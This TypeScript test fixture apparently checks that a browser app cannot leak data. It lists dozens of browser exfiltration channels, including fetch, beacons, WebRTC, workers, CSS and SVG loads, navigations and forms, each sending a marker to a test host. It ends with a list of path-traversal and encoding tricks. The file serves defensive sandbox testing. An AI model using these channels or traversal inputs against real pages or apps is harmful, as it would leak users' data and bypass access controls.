// Every way out that a page or a worker of a browser has, tried one by one. Each function runs inside the browser, so it stands alone:
// it gets the addresses of the street and tells nothing back that is relied on. What counts is what the street heard.

export interface Target {
  url: string;
  host: string;
  udp: string;
}
type Way = (to: Target) => unknown;

/** Ways that both a page and a worker have. */
export const anywhere: Record<string, Way> = {
  fetch: ({ url }) => fetch(`${url}/fetch`, { mode: 'no-cors' }),
  'fetch with cors': ({ url }) => fetch(`${url}/cors?rows=1`),
  'fetch of a scheme-less address': ({ host }) => fetch(`//${host}/bare`, { mode: 'no-cors' }),
  'fetch with a name and a password': ({ host }) => fetch(`http://rows:1280@${host}/`, { mode: 'no-cors' }),
  post: ({ url }) => fetch(`${url}/post`, { method: 'POST', body: 'rows', mode: 'no-cors' }),
  'post of a stream': ({ url }) =>
    fetch(`${url}/stream`, { method: 'POST', body: new Blob(['rows']).stream(), duplex: 'half', mode: 'no-cors' } as RequestInit),
  'a request with what the browser knows of us': ({ url }) =>
    fetch(new Request(`${url}/request`, { mode: 'no-cors', credentials: 'include', referrerPolicy: 'unsafe-url', priority: 'high' })),
  'a method of our own': ({ url }) => fetch(`${url}/method`, { method: 'ROWS', headers: { 'x-rows': '1280' } }),
  push: async () => (await navigator.serviceWorker?.ready)?.pushManager.subscribe({ userVisibleOnly: true }),
  keepalive: ({ url }) => fetch(`${url}/keepalive`, { keepalive: true, mode: 'no-cors' }),
  'fetch later': ({ url }) =>
    (globalThis as { fetchLater?: (to: string, init: object) => void }).fetchLater?.(`${url}/later`, { activateAfter: 0 }),
  xhr: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${url}/xhr`);
    request.send();
  },
  'synchronous xhr': ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${url}/sync`, false);
    request.send('rows');
  },
  websocket: ({ host }) => new WebSocket(`ws://${host}/websocket`),
  'websocket stream': ({ host }) => {
    const { WebSocketStream: Stream } = globalThis as { WebSocketStream?: new (to: string) => object };
    return Stream ? new Stream(`ws://${host}/stream`) : null;
  },
  'event source': ({ url }) => new EventSource(`${url}/events`),
  'web transport': ({ udp }) => {
    const { WebTransport: Transport } = globalThis as { WebTransport?: new (to: string) => { ready: Promise<void> } };
    return Transport ? new Transport(`https://${udp}/transport`).ready : null;
  },
  'web rtc': async ({ udp }) => {
    const { RTCPeerConnection: Peer } = globalThis as { RTCPeerConnection?: typeof RTCPeerConnection };
    if (!Peer) return;
    const peer = new Peer({ iceServers: [{ urls: `stun:${udp}` }, { urls: `turn:${udp}`, username: 'rows', credential: 'rows' }] });
    peer.createDataChannel('rows');
    await peer.setLocalDescription(await peer.createOffer());
  },
  worker: ({ url }) => new Worker(`${url}/worker.js`, { type: 'module' }),
  'worker from a blob': ({ url }) => new Worker(URL.createObjectURL(new Blob([`fetch('${url}/blob-worker')`]))),
  'worker from a data address': ({ url }) => new Worker(`data:text/javascript,fetch('${url}/data-worker')`),
  importScripts: ({ url }) => (globalThis as { importScripts?: (from: string) => void }).importScripts?.(`${url}/scripts.js`),
  // later, because what a debugger evaluates may evaluate
  eval: ({ url }) => setTimeout(() => void new Function('url', 'return fetch(url + "/eval", { mode: "no-cors" })')(url), 0),
  font: ({ url }) => new FontFace('stolen', `url(${url}/font.woff2)`).load(),
  'wasm by streaming': ({ url }) => WebAssembly.compileStreaming(fetch(`${url}/code.wasm`)),
  'background fetch': async ({ url }) => {
    const registration = (await navigator.serviceWorker?.ready) as {
      backgroundFetch?: { fetch(id: string, to: string[]): Promise<object> };
    };
    await registration.backgroundFetch?.fetch('rows', [`${url}/background`]);
  },
  'cache.add': async ({ url }) => (await caches.open('x')).add(`${url}/cache`),
  'a module worker from a blob': ({ url }) =>
    new Worker(URL.createObjectURL(new Blob([`import '${url}/blob-module.js'`], { type: 'text/javascript' })), { type: 'module' }),
  'importScripts from a blob': ({ url }) =>
    (globalThis as { importScripts?: (from: string) => void }).importScripts?.(
      URL.createObjectURL(new Blob([`importScripts('${url}/blob-scripts.js')`])),
    ),
  'code as text for later': ({ url }) => (setTimeout as (code: string, after: number) => number)(`fetch('${url}/timer')`, 0),
  'a notification of the service worker': async ({ url }) =>
    (await navigator.serviceWorker?.ready)?.showNotification('rows', { icon: `${url}/worker-icon.png`, badge: `${url}/badge.png` }),
};

/** Modules asked for by name. They cross as text, because a test runner puts its own import() in the place of the browser's. */
export const imports: Record<string, (to: Target) => string> = {
  'import()': ({ url }) => `import('${url}/import.js')`,
  'import() of JSON': ({ url }) => `import('${url}/import.json', { with: { type: 'json' } })`,
  'import() of styles': ({ url }) => `import('${url}/import.css', { with: { type: 'css' } })`,
  'import() from a data address': ({ url }) => `import('data:text/javascript,' + encodeURIComponent('import "${url}/data.js"'))`,
  'import() from a blob': ({ url }) => `import(URL.createObjectURL(new Blob(['import "${url}/blob.js"'], { type: 'text/javascript' })))`,
};

/** Ways that only a page has and that leave it where it is. */
export const ofPages: Record<string, Way> = {
  beacon: ({ url }) => navigator.sendBeacon(`${url}/beacon`, 'rows'),
  'shared worker': ({ url }) => new SharedWorker(`${url}/shared.js`),
  'another service worker': ({ url }) => navigator.serviceWorker.register(`${url}/sw.js`),
  'a service worker from a blob': () => navigator.serviceWorker.register(URL.createObjectURL(new Blob(['']))),
  worklet: async ({ url }) => new AudioContext().audioWorklet.addModule(`${url}/worklet.js`),
  'css paint worklet': ({ url }) =>
    (CSS as { paintWorklet?: { addModule(from: string): Promise<void> } }).paintWorklet?.addModule(`${url}/paint.js`),
  'image object': ({ url }) => (new Image().src = `${url}/object.png`),
  'audio object': ({ url }) => new Audio(`${url}/object.mp3`).play(),
  'style attribute': ({ url }) => document.body.setAttribute('style', `background: url(${url}/attribute.png)`),
  'style by script': ({ url }) => document.body.style.setProperty('background-image', `url(${url}/script.png)`),
  'style element': ({ url }) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${url}/import.css); @font-face { font-family: x; src: url(${url}/face.woff2) } body { font-family: x; cursor: url(${url}/cursor), auto }`;
    document.head.append(style);
  },
  'constructed style sheet': ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(
      `body { background-image: url(${url}/sheet.png); list-style-image: url(${url}/list.png) } body::after { content: url(${url}/content.png) }`,
    );
    document.adoptedStyleSheets.push(sheet);
  },
  'inline script': ({ url }) => {
    const script = document.createElement('script');
    script.textContent = `fetch('${url}/inline')`;
    document.body.append(script);
  },
  'speculation rules': ({ url }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [`${url}/speculate`] }],
      prerender: [{ source: 'list', urls: [`${url}/prerender`] }],
    });
    document.body.append(script);
  },
  'import map': ({ url }) => {
    const script = document.createElement('script');
    script.type = 'importmap';
    script.textContent = JSON.stringify({ imports: { rows: `${url}/map.js` } });
    document.head.append(script);
  },
  'markup as text': ({ url }) => {
    const box = document.createElement('div');
    box.innerHTML = `<img src="${url}/markup.png"><svg><image href="${url}/svg.png"></svg>`;
    document.body.append(box);
  },
  'document.write': ({ url }) => document.write(`<img src="${url}/write.png">`),
  'parsed markup': ({ url }) => {
    const { body } = new DOMParser().parseFromString(`<img src="${url}/parsed.png">`, 'text/html');
    document.body.append(document.adoptNode(body.firstElementChild as Element));
  },
  'a frame of its own markup': ({ url }) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('srcdoc', `<img src="${url}/srcdoc.png">`);
    document.body.append(frame);
  },
  'payment, share and the like': ({ url }) =>
    new PaymentRequest([{ supportedMethods: `${url}/pay` }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show(),
  'a notification with a picture': ({ url }) => new Notification('rows', { icon: `${url}/icon.png` }),
  'svg that points elsewhere': ({ url }) => {
    const space = 'http://www.w3.org/2000/svg';
    const drawing = document.createElementNS(space, 'svg');
    for (const tag of ['use', 'image', 'feImage', 'a', 'textPath', 'mpath', 'linearGradient', 'script', 'foreignObject']) {
      const part = document.createElementNS(space, tag);
      if (tag === 'foreignObject') part.append(Object.assign(document.createElement('video'), { src: `${url}/foreign.mp4` }));
      else part.setAttributeNS('http://www.w3.org/1999/xlink', 'href', `${url}/svg-${tag}#part`);
      part.setAttribute('width', '9');
      part.setAttribute('height', '9');
      drawing.append(part);
    }
    document.body.append(drawing);
  },
  'svg whose address is animated': ({ url }) => {
    const space = 'http://www.w3.org/2000/svg';
    const drawing = document.createElementNS(space, 'svg');
    const image = document.createElementNS(space, 'image');
    const change = document.createElementNS(space, 'set');
    change.setAttribute('attributeName', 'href');
    change.setAttribute('to', `${url}/animated.png`);
    image.append(change);
    drawing.append(image);
    document.body.append(drawing);
  },
  'a picture of markup that asks for more': ({ url }) => {
    const markup = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>@import url(${url}/in-picture.css); @font-face { font-family: x; src: url(${url}/in-picture.woff2) }</style><image href="${url}/in-picture.png" width="9" height="9"/><text font-family="x">x</text><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/in-picture"/></foreignObject></svg>`;
    for (const from of [
      `data:image/svg+xml,${encodeURIComponent(markup)}`,
      URL.createObjectURL(new Blob([markup], { type: 'image/svg+xml' })),
    ])
      document.body.append(Object.assign(new Image(), { src: from }));
  },
  'every property of a style sheet that fetches': ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`@font-face { font-family: stolen; src: url(${url}/sheet.woff2) }
      @counter-style marks { system: cyclic; symbols: url(${url}/symbol.png) }
      html { font-family: stolen; filter: url(${url}/filter.svg#f); clip-path: url(${url}/clip.svg#c) }
      body { border-image: url(${url}/border.png) 3 / 3px; mask-image: url(${url}/mask.svg); -webkit-mask: url(${url}/webkit.png);
        cursor: url(${url}/cursor.png), auto; shape-outside: url(${url}/shape.png); float: left; offset-path: url(${url}/path.svg#p) }
      body::before { content: image-set(url(${url}/set.png) 1x); background: -webkit-cross-fade(url(${url}/a.png), url(${url}/b.png), 50%) }
      ::view-transition-old(root), ::view-transition { background: url(${url}/transition.png) }`);
    document.adoptedStyleSheets.push(sheet);
    (document as { startViewTransition?: (change: () => void) => unknown }).startViewTransition?.(() => document.body.append('x'));
  },
  'a sheet that imports': ({ url }) => {
    const sheet = new CSSStyleSheet();
    document.adoptedStyleSheets.push(sheet);
    return sheet.replace(`@import url(${url}/adopted.css);`);
  },
  'sources and tracks of media': ({ url }) => {
    const video = document.createElement('video');
    const picture = document.createElement('picture');
    video.append(Object.assign(document.createElement('source'), { src: `${url}/source.mp4` }));
    const track = Object.assign(document.createElement('track'), { src: `${url}/track.vtt`, default: true, kind: 'captions' });
    video.append(track);
    track.track.mode = 'showing';
    picture.append(Object.assign(document.createElement('source'), { srcset: `${url}/source.png` }), new Image());
    document.body.append(video, picture);
  },
  'markup that is said to be safe': ({ url }) => {
    const box = document.createElement('div');
    document.body.append(box);
    (box as { setHTML?: (markup: string) => void }).setHTML?.(`<img src="${url}/set.png"><video src="${url}/set.mp4"></video>`);
  },
  'a style sheet for XML': ({ url }) => {
    const { XSLTProcessor: Sheets } = globalThis as { XSLTProcessor?: typeof XSLTProcessor };
    if (!Sheets) return;
    const space = 'http://www.w3.org/1999/XSL/Transform';
    const sheet = document.implementation.createDocument(space, 'xsl:stylesheet');
    sheet.documentElement.setAttribute('version', '1.0');
    const from = sheet.createElementNS(space, 'xsl:import');
    from.setAttribute('href', `${url}/import.xsl`);
    sheet.documentElement.append(from);
    new Sheets().importStylesheet(sheet);
  },
  'signing in elsewhere': ({ url }) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: `${url}/fedcm.json`, clientId: 'rows' }] },
    } as CredentialRequestOptions),
  // the browser itself asks that host whether it knows us
  'a key of another site': () =>
    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: 'rows-1280.street.test', timeout: 1_000 } }),
  'a new key of another site': () =>
    navigator.credentials.create({
      publicKey: {
        challenge: new Uint8Array(16),
        rp: { id: 'rows-1281.street.test', name: 'rows' },
        user: { id: new Uint8Array(8), name: 'rows', displayName: 'rows' },
        pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
        timeout: 1_000,
      },
    }),
  'word of a key of another site': ({ url }) =>
    (
      globalThis as { PublicKeyCredential?: { signalUnknownCredential?: (of: object) => Promise<void> } }
    ).PublicKeyCredential?.signalUnknownCredential?.({ rpId: new URL(url).hostname, credentialId: 'eA' }),
  'an ice candidate by name': async ({ udp }) => {
    const { RTCPeerConnection: Peer } = globalThis as { RTCPeerConnection?: typeof RTCPeerConnection };
    if (!Peer) return;
    const [name = '', port = ''] = udp.split(':');
    const [mine, theirs] = [new Peer(), new Peer()];
    mine.createDataChannel('rows');
    await mine.setLocalDescription(await mine.createOffer());
    await theirs.setRemoteDescription(mine.localDescription as RTCSessionDescription);
    await theirs.addIceCandidate({ candidate: `candidate:1 1 UDP 2122252543 ${name} ${port} typ host`, sdpMid: '0', sdpMLineIndex: 0 });
    await theirs.setLocalDescription(await theirs.createAnswer());
  },
  'an advertiser': ({ url }) => {
    const { joinAdInterestGroup: join, runAdAuction: auction } = navigator as {
      joinAdInterestGroup?: (group: object, seconds: number) => Promise<unknown>;
      runAdAuction?: (order: object) => Promise<unknown>;
    };
    const owner = 'https://rows.street.test';
    return Promise.allSettled([
      join?.call(navigator, { owner, name: 'rows', biddingLogicURL: `${owner}/bid.js`, updateURL: `${owner}/update` }, 60),
      auction?.call(navigator, { seller: owner, decisionLogicURL: `${owner}/decide.js`, interestGroupBuyers: [owner], sellerSignals: url }),
    ]);
  },
  'shared storage': ({ url }) => {
    const { sharedStorage: storage } = globalThis as {
      sharedStorage?: { worklet: { addModule(from: string): Promise<void> }; createWorklet?: (from: string) => Promise<unknown> };
    };
    return Promise.allSettled([storage?.worklet.addModule(`${url}/shared-storage.js`), storage?.createWorklet?.(`${url}/own-worklet.js`)]);
  },
  'installing another app': ({ url }) => (navigator as { install?: (from: string) => Promise<unknown> }).install?.(`${url}/app`),
  'being the handler of addresses': ({ url }) => navigator.registerProtocolHandler('web+rows', `${url}/?%s`),
  'showing it on another screen': ({ url }) => {
    const { PresentationRequest: Shows } = globalThis as {
      PresentationRequest?: new (to: string[]) => { start(): Promise<unknown>; getAvailability(): Promise<unknown> };
    };
    const show = Shows && new Shows([`${url}/show`]);
    return Promise.allSettled([show?.getAvailability(), show?.start()]);
  },
  sharing: ({ url }) => navigator.share?.({ url: `${url}/shared`, text: 'rows' }),
  'the place where we are': () => new Promise((done) => navigator.geolocation.getCurrentPosition(done, done)),
  'a shared worker from a blob': ({ url }) => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${url}/shared-blob')`]))),
  'a shared worker from a data address': ({ url }) => new SharedWorker(`data:text/javascript,fetch('${url}/shared-data')`),
  'a worklet from a blob': async ({ url }) =>
    new AudioContext().audioWorklet.addModule(
      URL.createObjectURL(new Blob([`import '${url}/worklet-import.js'`], { type: 'text/javascript' })),
    ),
  'a bundle': ({ url }) => {
    const script = document.createElement('script');
    script.type = 'webbundle';
    script.textContent = JSON.stringify({ source: `${url}/bundle.wbn`, resources: [`${url}/in-bundle.js`] });
    document.head.append(script);
  },
  'referrers and hints allowed again': ({ url }) => {
    for (const [name, content] of [
      ['referrer', 'unsafe-url'],
      ['accept-ch', 'sec-ch-ua-model'],
      ['x-dns-prefetch-control', 'on'],
    ] as const) {
      const meta = document.createElement('meta');
      Object.assign(meta, { name, httpEquiv: name, content });
      document.head.append(meta);
    }
    const link = document.createElement('a');
    link.href = `${url}/hint`;
    document.body.append(link);
  },
  'media session artwork': ({ url }) => {
    navigator.mediaSession.metadata = new MediaMetadata({ title: 'rows', artwork: [{ src: `${url}/artwork.png` }] });
  },
};

/** Elements that fetch by standing in the page: tag, and the attributes with `@` for the street. */
export const elements: [tag: string, attributes: Record<string, string>][] = [
  ['img', { src: '@/img.png' }],
  ['img', { srcset: '@/srcset.png 1x' }],
  ['input', { type: 'image', src: '@/input.png' }],
  ['video', { src: '@/video.mp4', autoplay: '', poster: '@/poster.png' }],
  ['audio', { src: '@/audio.mp3', preload: 'auto' }],
  ['iframe', { src: '@/frame' }],
  ['object', { data: '@/object', type: 'image/png' }],
  ['embed', { src: '@/embed', type: 'image/png' }],
  ['script', { src: '@/script.js' }],
  ['script', { src: '@/module.js', type: 'module' }],
  ['link', { rel: 'stylesheet', href: '@/style.css' }],
  ['link', { rel: 'prefetch', href: '@/prefetch' }],
  ['link', { rel: 'prerender', href: '@/prerender' }],
  ['link', { rel: 'preload', as: 'fetch', href: '@/preload' }],
  ['link', { rel: 'preload', as: 'image', href: '@/preload.png' }],
  ['link', { rel: 'modulepreload', href: '@/modulepreload.js' }],
  ['link', { rel: 'preconnect', href: '@/' }],
  ['link', { rel: 'dns-prefetch', href: '@/' }],
  ['link', { rel: 'preconnect', href: '@/', crossorigin: 'use-credentials' }],
  ['link', { rel: 'dns-prefetch preconnect', href: '@/' }],
  ['link', { rel: 'manifest', href: '@/manifest' }],
  ['link', { rel: 'icon', href: '@/icon.png' }],
  ['link', { rel: 'dictionary', href: '@/dictionary' }],
  ['link', { rel: 'search', type: 'application/opensearchdescription+xml', href: '@/search' }],
  ['link', { rel: 'compression-dictionary', href: '@/compression' }],
  ['link', { rel: 'stylesheet', href: 'data:text/css,%40import url(@/data.css)' }],
  ['link', { rel: 'alternate stylesheet', href: '@/alternate.css' }],
  ['link', { rel: 'preload', as: 'style', href: '@/preload.css' }],
  ['link', { rel: 'preload', as: 'font', href: '@/preload.woff2', crossorigin: '' }],
  ['link', { rel: 'preload', as: 'script', href: '@/preload.js' }],
  ['link', { rel: 'preload', as: 'worker', href: '@/preload-worker.js' }],
  ['link', { rel: 'preload', as: 'track', href: '@/preload.vtt' }],
  ['link', { rel: 'preload', as: 'image', imagesrcset: '@/imagesrcset.png 1x' }],
  ['link', { rel: 'apple-touch-icon', href: '@/touch.png' }],
  ['link', { rel: 'mask-icon', href: '@/mask.svg' }],
  ['link', { rel: 'monetization', href: '@/monetization' }],
  ['link', { rel: 'payment-method-manifest', href: '@/payment' }],
  ['link', { rel: 'next', href: '@/next' }],
  ['img', { src: 'x.png', attributionsrc: '@/attribution' }],
  ['img', { src: 'x.png', lowsrc: '@/low.png', dynsrc: '@/dyn.avi', longdesc: '@/long' }],
  ['iframe', { src: 'data:text/html,<img src=@/data-frame.png>' }],
  ['iframe', { src: 'javascript:fetch("@/script-frame")' }],
  ['iframe', { src: 'about:blank', srcdoc: '<link rel=preconnect href=@/>' }],
  ['object', { data: '@/object.html', type: 'text/html' }],
  ['object', { data: 'data:text/html,<img src=@/data-object.png>', type: 'text/html' }],
  ['embed', { src: '@/embed.html', type: 'text/html' }],
  ['embed', { src: '@/embed.pdf', type: 'application/pdf' }],
  ['frameset', { onload: 'fetch("@/frameset")' }],
  ['fencedframe', { src: '@/fenced' }],
  ['script', { src: '@/rules.json', type: 'speculationrules' }],
  ['script', { src: '@/map.json', type: 'importmap' }],
  ['script', { src: '@/whole.js', integrity: 'sha256-x', attributionsrc: '@/script-attribution' }],
  ['model', { src: '@/model.usdz' }],
  ['body', { background: '@/body.png' }],
  ['table', { background: '@/table.png' }],
  ['portal', { src: '@/portal' }],
  ['applet', { code: '@/applet', archive: '@/applet.jar' }],
  ['bgsound', { src: '@/bgsound' }],
];

/** Ways that would take the page away or change what holds for it, each tried on a page of its own. */
export const leavings: Record<string, Way> = {
  'a policy that reports': ({ url }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'Content-Security-Policy';
    meta.content = `img-src 'none'; report-uri ${url}/report`;
    document.head.append(meta);
    new Image().src = 'x.png';
  },
  'a base address': ({ url }) => {
    const base = document.createElement('base');
    base.href = url;
    document.head.append(base);
    new Image().src = 'based.png';
    base.remove();
  },
  'location.href': ({ url }) => (location.href = `${url}/href?rows=1`),
  'location.replace': ({ url }) => location.replace(`${url}/replace`),
  'navigation.navigate': ({ url }) =>
    (globalThis as { navigation?: { navigate(to: string): void } }).navigation?.navigate(`${url}/navigate`),
  'meta refresh': ({ url }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${url}/refresh`;
    document.head.append(meta);
  },
  'window.open': ({ url }) => window.open(`${url}/open`),
  'a link followed': ({ url }) => {
    const link = document.createElement('a');
    link.href = `${url}/link`;
    document.body.append(link);
    link.click();
  },
  'a link with ping': ({ url }) => {
    const link = document.createElement('a');
    link.href = '#here';
    link.ping = `${url}/ping`;
    document.body.append(link);
    link.click();
  },
  'what is sent as the page goes': ({ url }) => {
    for (const when of ['pagehide', 'beforeunload', 'unload', 'visibilitychange'])
      addEventListener(when, () => {
        navigator.sendBeacon(`${url}/going-beacon`, 'rows');
        void fetch(`${url}/going-fetch`, { method: 'POST', body: 'rows', keepalive: true, mode: 'no-cors' });
        new Image().src = `${url}/going.png`;
      });
    location.reload();
  },
  'a link with attribution': ({ url }) => {
    const link = document.createElement('a');
    link.href = '#here';
    link.setAttribute('attributionsrc', `${url}/attribution-link`);
    document.body.append(link);
    link.click();
  },
  'an area of a picture': ({ url }) => {
    const map = document.createElement('map');
    const area = document.createElement('area');
    Object.assign(area, { href: `${url}/area`, ping: `${url}/area-ping` });
    map.append(area);
    document.body.append(map);
    area.click();
  },
  'a link within a drawing': ({ url }) => {
    const space = 'http://www.w3.org/2000/svg';
    const link = document.createElementNS(space, 'a');
    link.setAttribute('href', `${url}/svg-link`);
    const drawing = document.createElementNS(space, 'svg');
    drawing.append(link);
    document.body.append(drawing);
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  },
  'a link within a formula': ({ url }) => {
    const space = 'http://www.w3.org/1998/Math/MathML';
    const formula = document.createElementNS(space, 'math');
    const link = document.createElementNS(space, 'mi');
    link.setAttribute('href', `${url}/math-link`);
    formula.append(link);
    document.body.append(formula);
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  },
  'a link into a new window': ({ url }) => {
    const link = document.createElement('a');
    Object.assign(link, { href: `${url}/blank`, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'a link that stands nowhere': ({ url }) => {
    const link = document.createElement('a');
    Object.assign(link, { href: `${url}/detached`, target: '_blank', rel: 'noopener' });
    link.dispatchEvent(new MouseEvent('click'));
  },
  'a download': ({ url }) => {
    const link = document.createElement('a');
    Object.assign(link, { href: `${url}/download`, download: 'rows' });
    link.click();
  },
  form: ({ url }) => {
    const form = document.createElement('form');
    Object.assign(form, { action: `${url}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'a form into a new window': ({ url }) => {
    const form = document.createElement('form');
    Object.assign(form, { action: `${url}/form-blank`, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  'a form button of its own address': ({ url }) => {
    const form = document.createElement('form');
    const button = document.createElement('button');
    button.formAction = `${url}/button`;
    form.append(button);
    document.body.append(form);
    button.click();
  },
  'a frame led away': ({ url }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    if (frame.contentWindow) frame.contentWindow.location.href = `${url}/led`;
  },
  'the fetch of an empty frame': ({ url }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return (frame.contentWindow as (Window & typeof globalThis) | null)?.fetch(`${url}/inner`, { mode: 'no-cors' });
  },
  'the web rtc of an empty frame': async ({ udp }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { RTCPeerConnection: Peer } = (frame.contentWindow ?? {}) as { RTCPeerConnection?: typeof RTCPeerConnection };
    if (!Peer) return;
    const peer = new Peer({ iceServers: [{ urls: `stun:${udp}` }] });
    peer.createDataChannel('rows');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'a key of another site, asked by an empty frame': () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.navigator.credentials.get({
      publicKey: { challenge: new Uint8Array(16), rpId: 'rows-1282.street.test', timeout: 1_000 },
    });
  },
  'a window from a frame': ({ url }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentWindow?.open(`${url}/frame-open`);
  },
};

/** Paths that only pretend to be a model's or the app's: none may reach a host of the catalogue, nor the app's own. */
export const pathTricks: [method: string, path: string][] = [
  ['GET', 'models/../rows?minor=1280'],
  ['GET', 'models/whisper-base/../../rows'],
  ['GET', 'models/whisper-base/%2e%2e/%2e%2e/rows'],
  ['GET', 'models/whisper-base/..%2f..%2frows'],
  ['GET', 'models/whisper-base/..%5c..%5crows'],
  ['GET', 'models%2fwhisper-base%2fconfig.json'],
  ['GET', 'models//whisper-base/config.json'],
  ['GET', 'models/whisper-base//config.json'],
  ['GET', 'models/WHISPER-BASE/config.json'],
  ['GET', 'models/whisper-base/config.json?rows=1280'],
  ['GET', 'models/whisper-base/config.json%3Frows=1280'],
  ['GET', 'models/whisper-base/config.json%00rows'],
  ['GET', 'models/whisper-base/config.json/'],
  ['GET', 'models/whisper-base/config.json;rows'],
  ['GET', 'models/http://@/rows'],
  ['GET', 'models//@/rows'],
  ['GET', 'models/whisper-base@evil/config.json'],
  ['GET', 'models/{repo}/{file}'],
  ['GET', 'models/__proto__/constructor'],
  ['POST', 'models/whisper-base/config.json'],
  ['PUT', 'models/whisper-base/config.json'],
  ['HEAD', 'models/whisper-base/config.json'],
  ['DELETE', 'models/whisper-base/config.json'],
  ['GET', 'rows?minor=1280'],
  ['POST', ''],
  ['POST', 'index.html'],
  ['GET', '../rows'],
  ['GET', '/rows?minor=1280'],
  ['GET', 'sw.js?rows=1280'],
  ['GET', 'assets/rows.js'],
  ['GET', 'assets/%2e%2e/rows'],
];
